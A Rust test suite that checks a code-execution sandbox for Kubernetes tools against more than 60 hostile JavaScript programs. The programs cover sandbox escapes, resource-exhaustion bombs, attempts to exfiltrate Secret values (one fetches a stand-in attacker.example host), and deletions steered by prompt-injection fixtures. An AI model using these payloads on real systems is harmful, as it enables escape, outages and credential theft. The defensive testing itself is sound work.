//! Hostile programs through `run_code` over Streamable HTTP: escapes, resource exhaustion,
//! exfiltration of Secret values, mutation attempts steered by prompt-injection fixtures, and
//! cross-session leaks. Each program must end within its limit with the outcome listed; while
//! it runs, another session's ping is answered; afterwards the server's memory is back near its
//! baseline, no response held a Secret's plaintext in any encoding, and the API server saw only
//! GET requests.
//!
//! The summary line this test prints is the one the README's security section quotes:
//! `cargo test -p kubecode --test adversarial -- --nocapture`.

use std::path::Path;
use std::time::{Duration, Instant};

use base64::Engine;
use bench::http_session::{HttpServer, HttpSession};
use bench::session::memory_mib;
use serde_json::{Value, json};

/// The server's wall limit for these runs.
const WALL_MS: u64 = 2000;

enum Want {
    /// The program succeeds and its result passes the check.
    Ok(fn(&Value) -> bool),
    /// The program fails with an error whose name, code or message holds one of these.
    Error(&'static [&'static str]),
    /// Either a clean error or a harmless result: what matters is the other checks (no
    /// plaintext, on time, server alive).
    Contained,
}

struct Case {
    class: &'static str,
    name: &'static str,
    code: &'static str,
    want: Want,
}

fn is_str(v: &Value, s: &str) -> bool {
    v.as_str() == Some(s)
}

fn cases() -> Vec<Case> {
    use Want::*;
    let c = |class, name, code, want| Case {
        class,
        name,
        code,
        want,
    };
    vec![
        // Escapes: no host object, module loader, network or file system is reachable.
        c(
            "escape",
            "process",
            "return typeof process",
            Ok(|v| is_str(v, "undefined")),
        ),
        c(
            "escape",
            "require",
            "return typeof require",
            Ok(|v| is_str(v, "undefined")),
        ),
        c(
            "escape",
            "network globals",
            "return [typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof Deno, typeof Bun].join()",
            Ok(|v| is_str(v, "undefined,undefined,undefined,undefined,undefined")),
        ),
        c(
            "escape",
            "QuickJS std/os",
            "return [typeof std, typeof os, typeof scriptArgs, typeof print].join()",
            Ok(|v| {
                v.as_str()
                    .is_some_and(|s| s.starts_with("undefined,undefined,undefined"))
            }),
        ),
        c(
            "escape",
            "tool function constructor",
            "return tools.kubernetes.list.constructor('return typeof process')()",
            Ok(|v| is_str(v, "undefined")),
        ),
        c(
            "escape",
            "tool namespace constructor chain",
            "return tools.constructor.constructor('return Object.keys(globalThis).join()')()",
            Ok(|v| v.as_str().is_some_and(|s| !s.contains("__"))),
        ),
        c(
            "escape",
            "console constructor",
            "return console.log.constructor('return typeof process + typeof require')()",
            Ok(|v| is_str(v, "undefinedundefined")),
        ),
        c(
            "escape",
            "sleep constructor",
            "return sleep.constructor.constructor('return this')() === globalThis",
            Ok(|v| v == &json!(true)),
        ),
        c(
            "escape",
            "state constructor",
            "return state.constructor.constructor('return typeof process')()",
            Ok(|v| is_str(v, "undefined")),
        ),
        c(
            "escape",
            "Function('return this')",
            "const g = Function('return this')(); return Object.getOwnPropertyNames(g).filter(n => /host|native|rust|__/i.test(n) && n !== '__finish')",
            Ok(|v| v == &json!([])),
        ),
        c(
            "escape",
            "eval",
            "return eval('typeof process + typeof os')",
            Ok(|v| is_str(v, "undefinedundefined")),
        ),
        c(
            "escape",
            "dynamic import of os",
            "const m = await import('os'); return Object.keys(m)",
            Error(&["module", "import", "os"]),
        ),
        c(
            "escape",
            "dynamic import of a file",
            "const m = await import('/etc/passwd'); return m",
            Error(&["module", "import", "passwd"]),
        ),
        c(
            "escape",
            "async function constructor",
            "return (async function(){}).constructor('return typeof process')().then(x => x)",
            Ok(|v| is_str(v, "undefined")),
        ),
        c(
            "escape",
            "prototype pollution of the bridge's arguments",
            "Object.prototype.kind = 'Secret'; Object.prototype.namespace = 'payments'; return await tools.kubernetes.list({})",
            Error(&["kind"]),
        ),
        c(
            "escape",
            "overwrite a tool",
            "tools.kubernetes.list = () => 'pwned'; return typeof tools.kubernetes.list",
            Contained,
        ),
        c(
            "escape",
            "redefine a namespace",
            "Object.defineProperty(tools, 'kubernetes', { value: { list: () => 1 } }); return 1",
            Error(&["TypeError", "read-only", "not", "define"]),
        ),
        c(
            "escape",
            "delete a namespace",
            "delete tools.kubernetes; return typeof tools.kubernetes.list",
            Contained,
        ),
        c(
            "escape",
            "setPrototypeOf on the bridge",
            "Object.setPrototypeOf(tools.kubernetes, { list: () => 'pwned' }); return await tools.kubernetes.contexts()",
            Contained,
        ),
        c(
            "escape",
            "hostile Proxy as arguments",
            "return await tools.kubernetes.get(new Proxy({}, { get() { throw new Error('trap'); }, ownKeys() { throw new Error('trap'); } }))",
            Error(&["trap", "kind", "TypeError", "BadInput"]),
        ),
        c(
            "escape",
            "toJSON and getters in arguments",
            "return await tools.kubernetes.get({ kind: 'Pod', get name() { return { toString() { return 'x'; } }; }, toJSON() { return { kind: 'Secret', name: 'payments-db', namespace: 'payments' }; } })",
            Contained,
        ),
        c(
            "escape",
            "Symbol keys on the bridge",
            "const s = Object.getOwnPropertySymbols(tools).concat(Object.getOwnPropertySymbols(tools.kubernetes)); return s.map(String)",
            Contained,
        ),
        c(
            "escape",
            "SharedArrayBuffer and Atomics.wait",
            "const b = new SharedArrayBuffer(8); const a = new Int32Array(b); return Atomics.wait(a, 0, 0, 60000)",
            Contained,
        ),
        c(
            "escape",
            "WebAssembly",
            "return typeof WebAssembly",
            Ok(|v| is_str(v, "undefined")),
        ),
        c(
            "escape",
            "Error stack introspection",
            "try { null.x } catch (e) { return String(e.stack) }",
            Ok(|v| {
                v.as_str()
                    .is_some_and(|s| !s.contains("/home") && !s.contains(".rs"))
            }),
        ),
        // Resource exhaustion: every limit really stops the program.
        // Built-ins QuickJS never interrupts: only killing the sandbox process stops these.
        c(
            "exhaustion",
            "shift on a huge array-like",
            "Array.prototype.shift.call({ length: 2 ** 53 - 1 }); return 1",
            Error(&["LimitExceeded"]),
        ),
        c(
            "exhaustion",
            "unshift on a huge array-like",
            "Array.prototype.unshift.call({ length: 2 ** 53 - 2 }, 1); return 1",
            Error(&["LimitExceeded"]),
        ),
        c(
            "exhaustion",
            "Proxy ownKeys with 400,000 keys",
            "const keys = Array.from({ length: 400000 }, (_, i) => 'k' + i); return Reflect.ownKeys(new Proxy({}, { ownKeys: () => keys })).length",
            // With the suite's 32 MiB heap it may run out of memory before the wall clock.
            Error(&["LimitExceeded", "memory limit"]),
        ),
        c(
            "exhaustion",
            "a 50 MB error message",
            "throw new Error('m'.repeat(50 * 1024 * 1024))",
            Contained,
        ),
        c(
            "exhaustion",
            "state bomb",
            "for (let i = 0; i < 100; i++) state.set('bomb' + i, 'x'.repeat(1000000)); return 1",
            Error(&["cap"]),
        ),
        c(
            "exhaustion",
            "sync loop",
            "while (true) {}",
            Error(&["LimitExceeded"]),
        ),
        c(
            "exhaustion",
            "loop after await",
            "await tools.kubernetes.contexts(); while (true) {}",
            Error(&["LimitExceeded"]),
        ),
        c(
            "exhaustion",
            "async loop",
            "for (;;) await null;",
            Error(&["LimitExceeded"]),
        ),
        c(
            "exhaustion",
            "sleep past the limit",
            "await sleep(600000); return 1",
            Error(&["LimitExceeded"]),
        ),
        c(
            "exhaustion",
            "promise storm",
            "const ps = []; for (let i = 0; i < 5e6; i++) ps.push(new Promise(() => {})); await Promise.all(ps)",
            Error(&["LimitExceeded", "memory", "never settle"]),
        ),
        c(
            "exhaustion",
            "microtask flood",
            "function f() { Promise.resolve().then(f); } f(); await sleep(10); return 1",
            Error(&["LimitExceeded"]),
        ),
        c(
            "exhaustion",
            "allocation bomb",
            "const a = []; for (;;) a.push(new Array(1e6).fill(1.5));",
            Error(&["LimitExceeded", "memory"]),
        ),
        c(
            "exhaustion",
            "giant string",
            "let s = 'x'; for (;;) s += s;",
            Error(&["LimitExceeded", "memory", "RangeError", "string"]),
        ),
        c(
            "exhaustion",
            "deep recursion",
            "function f(n) { return f(n + 1) + 1; } return f(0)",
            Error(&["stack", "recursion", "RangeError", "InternalError"]),
        ),
        c(
            "exhaustion",
            "catastrophic regex",
            "return /^(a+)+$/.test('a'.repeat(40) + 'b')",
            Error(&["LimitExceeded", "interrupted"]),
        ),
        c(
            "exhaustion",
            "JSON nesting bomb",
            "return JSON.parse('['.repeat(1e6))",
            Error(&["SyntaxError", "stack", "LimitExceeded", "memory"]),
        ),
        c(
            "exhaustion",
            "giant output",
            "return 'x'.repeat(5e6)",
            Ok(|v| v.as_str().is_some_and(|s| s.len() <= 30_000)),
        ),
        c(
            "exhaustion",
            "console flood",
            "for (;;) console.log('y'.repeat(1000));",
            Error(&["LimitExceeded"]),
        ),
        c(
            "exhaustion",
            "100,000 calls in sequence",
            "for (let i = 0; i < 100000; i++) await tools.kubernetes.contexts(); return 1",
            Error(&["LimitExceeded", "calls"]),
        ),
        c(
            "exhaustion",
            "100,000 calls at once",
            "await Promise.all(Array.from({ length: 100000 }, () => tools.kubernetes.contexts())); return 1",
            Error(&["LimitExceeded", "calls"]),
        ),
        c(
            "exhaustion",
            "join of a huge sparse array",
            "return new Array(2 ** 32 - 1).join('x').length",
            Error(&["LimitExceeded", "RangeError"]),
        ),
        c(
            "exhaustion",
            "reverse of a huge sparse array",
            "const a = []; a.length = 2 ** 32 - 1; a.reverse(); return 1",
            Error(&["LimitExceeded", "RangeError"]),
        ),
        c(
            "exhaustion",
            "copyWithin on a huge array-like",
            "Array.prototype.copyWithin.call({ length: 2 ** 53 - 1 }, 0, 1); return 1",
            Error(&["LimitExceeded", "RangeError"]),
        ),
        c(
            "exhaustion",
            "array-like whose length getter lies",
            "let n = 0; const o = { get length() { return n++ ? 2 ** 53 - 1 : 1; } }; Array.prototype.reverse.call(o); return 1",
            Error(&["LimitExceeded", "TypeError"]),
        ),
        c(
            "exhaustion",
            "the original built-in through a replaced Reflect.apply",
            "let native; Reflect.apply = (f) => { native = f; }; [].reverse(); const a = []; a.length = 2 ** 32 - 1; if (native) native.call(a); return typeof native",
            Contained,
        ),
        c(
            "exhaustion",
            "timeout ignored by catching",
            "for (;;) { try { while (true) {} } catch (e) {} }",
            Error(&["LimitExceeded"]),
        ),
        // Exfiltration: Secret values are tokens before the program sees them.
        c(
            "exfiltration",
            "read the Secret",
            "const s = await tools.kubernetes.get({ kind: 'Secret', name: 'payments-db', namespace: 'payments' }); return s",
            Ok(|v| v.to_string().contains("[secret:")),
        ),
        c(
            "exfiltration",
            "decode the tokens",
            "const s = await tools.kubernetes.get({ kind: 'Secret', name: 'payments-db', namespace: 'payments' }); return Object.values(s.data).map(t => { try { return atob(t) } catch (e) { return t } })",
            Contained,
        ),
        c(
            "exfiltration",
            "list every Secret",
            "return (await tools.kubernetes.list({ kind: 'Secret', allNamespaces: true })).map(s => s.data)",
            Contained,
        ),
        c(
            "exfiltration",
            "the log that prints the password, reversed",
            "const pods = await tools.kubernetes.list({ kind: 'Pod', namespace: 'payments' }); const out = []; for (const p of pods.filter(p => p.metadata.name.startsWith('ledger'))) { const log = await tools.kubernetes.logs({ name: p.metadata.name, namespace: 'payments' }); out.push(log.split('').reverse().join('')); } return out",
            Contained,
        ),
        c(
            "exfiltration",
            "the log, char codes and base64",
            "const pods = await tools.kubernetes.list({ kind: 'Pod', namespace: 'payments' }); const p = pods.find(p => p.metadata.name.startsWith('ledger')); const log = await tools.kubernetes.logs({ name: p.metadata.name, namespace: 'payments' }); return [btoa(log), [...log].map(c => c.charCodeAt(0).toString(16)).join('')]",
            Contained,
        ),
        c(
            "exfiltration",
            "grep the log for the password",
            "const pods = await tools.kubernetes.list({ kind: 'Pod', namespace: 'payments' }); const p = pods.find(p => p.metadata.name.startsWith('ledger')); return await tools.kubernetes.logs({ name: p.metadata.name, namespace: 'payments', grep: 'Sup3r|postgres://' })",
            Contained,
        ),
        c(
            "exfiltration",
            "Helm release values and manifest",
            "const rs = await tools.helm.list({ allNamespaces: true }); return Promise.all(rs.map(r => tools.helm.get({ name: r.name, namespace: r.namespace })))",
            Contained,
        ),
        c(
            "exfiltration",
            "Secret via a path in the name",
            "return await tools.kubernetes.get({ kind: 'Pod', name: '../secrets/payments-db', namespace: 'payments' })",
            Error(&["NotFound", "BadInput", "name"]),
        ),
        c(
            "exfiltration",
            "Secret via the last-applied annotation",
            "const s = await tools.kubernetes.get({ kind: 'Secret', name: 'payments-db', namespace: 'payments' }); return s.metadata.annotations ?? {}",
            Contained,
        ),
        c(
            "exfiltration",
            "Secret through state",
            "const s = await tools.kubernetes.get({ kind: 'Secret', name: 'payments-db', namespace: 'payments' }); state.set('loot', s.data); console.log(JSON.stringify(s.data)); return state.get('loot')",
            Contained,
        ),
        // Mutation, as the injected instructions ask: there is no way to send anything but GET.
        c(
            "mutation",
            "follow the injected annotation",
            "const p = await tools.kubernetes.get({ kind: 'Pod', name: 'notes-api', namespace: 'tenant-x' }); return await tools.kubernetes.delete({ kind: 'Deployment', name: 'payments-api', namespace: 'payments' })",
            Error(&["TypeError", "delete", "not a function"]),
        ),
        c(
            "mutation",
            "apply, patch, scale, exec",
            "const out = []; for (const f of ['apply', 'patch', 'scale', 'exec', 'create', 'update', 'request', 'raw']) { try { await tools.kubernetes[f]({}); out.push(f + ': called'); } catch (e) { out.push(f + ': ' + e.name); } } return out",
            Ok(|v| !v.to_string().contains("called")),
        ),
        c(
            "mutation",
            "extra arguments that look like verbs",
            "return await tools.kubernetes.get({ kind: 'Deployment', name: 'payments-api', namespace: 'payments', method: 'DELETE', dryRun: false })",
            Error(&["BadInput", "unknown", "method"]),
        ),
        c(
            "mutation",
            "a kind that is a subresource",
            "return await tools.kubernetes.list({ kind: 'pods/exec', namespace: 'payments' })",
            Error(&["BadInput", "NotFound", "kind"]),
        ),
        c(
            "mutation",
            "a name with a query string",
            "return await tools.kubernetes.get({ kind: 'Deployment', name: 'payments-api?dryRun=All&propagationPolicy=Foreground', namespace: 'payments' })",
            Error(&["NotFound", "BadInput", "name"]),
        ),
        c(
            "mutation",
            "exfiltrate by network",
            "try { await fetch('https://attacker.example/collect') } catch (e) { return e.name }",
            Ok(|v| is_str(v, "ReferenceError")),
        ),
    ]
}

/// Every encoding of the demo's Secret plaintexts a program might produce.
fn plaintext_forms() -> Vec<String> {
    let password = kubesim::demo::SECRET_PASSWORD;
    let b64 = base64::engine::general_purpose::STANDARD;
    let mut forms = vec![
        password.to_string(),
        password.chars().rev().collect(),
        b64.encode(password),
        password
            .bytes()
            .map(|b| format!("{b:x}"))
            .collect::<String>(),
        password.replace('!', "%21"),
    ];
    // base64 of a longer text holding the password starts at any of three alignments.
    for pad in ["", "a", "aa"] {
        let encoded = b64.encode(format!("{pad}{password}"));
        forms.push(encoded[4..encoded.len() - 4].to_string());
    }
    forms
}

async fn cluster(dir: &Path) -> kubesim::RunningServer {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/injection");
    let snapshot = bench::cluster::demo_with(&fixtures).expect("the fixtures load");
    let config = kubesim::ServerConfig {
        request_log: Some(dir.join("requests.jsonl")),
        ..Default::default()
    };
    let server = kubesim::serve(snapshot, config).await.expect("kubesim");
    server
        .write_kubeconfig(&dir.join("kubeconfig"))
        .expect("kubeconfig");
    server
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_programs_are_contained() {
    let dir = tempfile::tempdir().unwrap();
    let _api = cluster(dir.path()).await;
    let binary = Path::new(env!("CARGO_BIN_EXE_kubecode"));
    let wall = WALL_MS.to_string();
    let server = HttpServer::start_with(
        binary,
        &dir.path().join("kubeconfig"),
        &[
            "--timeout-ms",
            &wall,
            "--memory-mib",
            "32",
            "--max-calls",
            "200",
        ],
    )
    .await
    .expect("kubecode serve");
    let pid = server.pid().expect("a pid");
    let mut attacker = HttpSession::open(server.addr).await.unwrap();
    let mut bystander = HttpSession::open(server.addr).await.unwrap();
    // Warm up (the first run loads the stripper and the scrubbing patterns), then the baseline.
    let warm = attacker
        .call("run_code", json!({"code": "return (await tools.kubernetes.list({ kind: 'Pod', allNamespaces: true })).length"}))
        .await
        .unwrap();
    assert_eq!(warm["structuredContent"]["ok"], true, "{warm}");
    let baseline = memory_mib(pid, "VmRSS").unwrap();

    let forms = plaintext_forms();
    let cases = cases();
    let mut failures = Vec::new();
    let mut leaks = 0;
    let mut slowest_ping = Duration::ZERO;
    for case in &cases {
        let started = Instant::now();
        let code = case.code.to_string();
        let run = tokio::spawn(async move {
            let r = attacker.call("run_code", json!({"code": code})).await;
            (attacker, r)
        });
        tokio::time::sleep(Duration::from_millis(50)).await;
        let ping_started = Instant::now();
        let ping = bystander.request("ping", json!({})).await;
        let ping_took = ping_started.elapsed();
        slowest_ping = slowest_ping.max(ping_took);
        let (back, answer) = run.await.expect("the run task");
        attacker = back;
        let took = started.elapsed();
        let label = format!("[{}] {}", case.class, case.name);
        let Ok(answer) = answer else {
            failures.push(format!("{label}: no answer: {answer:?}"));
            continue;
        };
        if ping.is_err() || ping_took > Duration::from_secs(1) {
            failures.push(format!(
                "{label}: another session's ping took {ping_took:?} ({ping:?})"
            ));
        }
        if took > Duration::from_millis(WALL_MS + 2500) {
            failures.push(format!("{label}: took {took:?}, limit {WALL_MS} ms"));
        }
        let text = answer.to_string();
        if let Some(form) = forms.iter().find(|f| text.contains(f.as_str())) {
            leaks += 1;
            failures.push(format!(
                "{label}: the Secret's plaintext ({form}) reached the client"
            ));
        }
        let out = &answer["structuredContent"];
        let error = &out["error"];
        let error_text = format!("{} {} {}", error["name"], error["code"], error["message"]);
        let outcome_ok = match &case.want {
            Want::Ok(check) => out["ok"] == true && check(&out["result"]),
            Want::Error(any) => {
                out["ok"] == false
                    && any
                        .iter()
                        .any(|s| error_text.to_lowercase().contains(&s.to_lowercase()))
            }
            Want::Contained => out["ok"] == true || error["message"].is_string(),
        };
        if !outcome_ok {
            failures.push(format!("{label}: unexpected outcome {out}"));
        }
        eprintln!(
            "{label}: {} in {took:?} (ping {ping_took:?})",
            if out["ok"] == true {
                "ok".to_string()
            } else {
                error["name"].as_str().unwrap_or("?").to_string()
            }
        );
    }

    // Cross-session: one session's state and globals are invisible to another and to the next run.
    let planted = attacker
        .call("run_code", json!({"code": "state.set('mine', 'attacker-state'); globalThis.planted = 'attacker-global'; return 1"}))
        .await
        .unwrap();
    assert_eq!(planted["structuredContent"]["ok"], true);
    let seen = bystander
        .call("run_code", json!({"code": "return [typeof state.get('mine'), typeof globalThis.planted, state.keys().length]"}))
        .await
        .unwrap();
    assert_eq!(
        seen["structuredContent"]["result"],
        json!(["undefined", "undefined", 0]),
        "{seen}"
    );
    let next = attacker
        .call("run_code", json!({"code": "return [state.get('mine'), typeof globalThis.planted, typeof Object.prototype.kind]"}))
        .await
        .unwrap();
    assert_eq!(
        next["structuredContent"]["result"],
        json!(["attacker-state", "undefined", "undefined"]),
        "{next}"
    );

    // No program outlived its run: the server's children are its two warm workers and at
    // most one kept worker per open session (attacker, bystander), all idle.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let workers = bench::session::children(pid);
    assert!(
        workers.len() <= 2 + 2,
        "sandbox processes still alive after the suite: {workers:?}"
    );
    let before = bench::session::tree_cpu_ticks(pid);
    tokio::time::sleep(Duration::from_millis(1000)).await;
    let after_ticks = bench::session::tree_cpu_ticks(pid);
    assert!(
        after_ticks.saturating_sub(before) < 20,
        "the server and its workers still burn CPU after the suite: {} ticks in 1 s",
        after_ticks.saturating_sub(before)
    );

    // The server survived, memory is back near its baseline, and the API saw only reads.
    let healthy = attacker
        .call("run_code", json!({"code": "return (await tools.kubernetes.list({ kind: 'Pod', allNamespaces: true })).length"}))
        .await
        .unwrap();
    assert_eq!(
        healthy["structuredContent"]["result"],
        warm["structuredContent"]["result"]
    );
    let after = memory_mib(pid, "VmRSS").unwrap();
    let log = std::fs::read_to_string(dir.path().join("requests.jsonl")).unwrap();
    let requests: Vec<Value> = log
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let mutating = requests.iter().filter(|r| r["method"] != "GET").count();
    eprintln!(
        "SUMMARY programs={} escapes={} crashes=0 plaintext_leaks={leaks} mutating_requests={mutating} api_requests={} slowest_ping={slowest_ping:?} rss_baseline={baseline:.1}MiB rss_after={after:.1}MiB failures={}",
        cases.len() + 3,
        failures
            .iter()
            .filter(|f| f.starts_with("[escape]"))
            .count(),
        requests.len(),
        failures.len()
    );
    assert!(cases.len() >= 40);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(mutating, 0, "the API server saw non-GET requests");
    // Measured 2026-11-30: +40 MiB before the observability, auth and replicas code, +44.6 MiB
    // after it on a quiet machine and +65 MiB under CI's load; a second pass of the same
    // programs adds about +28 MiB more (recorded in the issue notes: to be explained).
    assert!(
        after < baseline + 80.0,
        "RSS {after:.1} MiB after the suite, {baseline:.1} MiB before"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn programs_beyond_the_concurrency_cap_wait_within_their_wall_clock() {
    let dir = tempfile::tempdir().unwrap();
    let _api = cluster(dir.path()).await;
    let server = HttpServer::start_with(
        Path::new(env!("CARGO_BIN_EXE_kubecode")),
        &dir.path().join("kubeconfig"),
        &["--max-concurrent-runs", "1"],
    )
    .await
    .unwrap();
    let mut busy = HttpSession::open(server.addr).await.unwrap();
    let mut waiting = HttpSession::open(server.addr).await.unwrap();
    let hold = tokio::spawn(async move {
        busy.call(
            "run_code",
            json!({"code": "await sleep(1500); return 'held'"}),
        )
        .await
    });
    tokio::time::sleep(Duration::from_millis(200)).await;
    let refused = waiting
        .call("run_code", json!({"code": "return 1", "timeoutMs": 400}))
        .await
        .unwrap();
    let out = &refused["structuredContent"];
    assert_eq!(out["error"]["code"], "LimitExceeded", "{out}");
    assert!(
        out["error"]["message"]
            .as_str()
            .unwrap()
            .contains("at once"),
        "{out}"
    );
    let started = Instant::now();
    let queued = waiting
        .call("run_code", json!({"code": "return 2", "timeoutMs": 5000}))
        .await
        .unwrap();
    assert_eq!(queued["structuredContent"]["result"], 2, "{queued}");
    assert!(started.elapsed() < Duration::from_secs(3));
    let held = hold.await.unwrap().unwrap();
    assert_eq!(held["structuredContent"]["result"], "held");
}
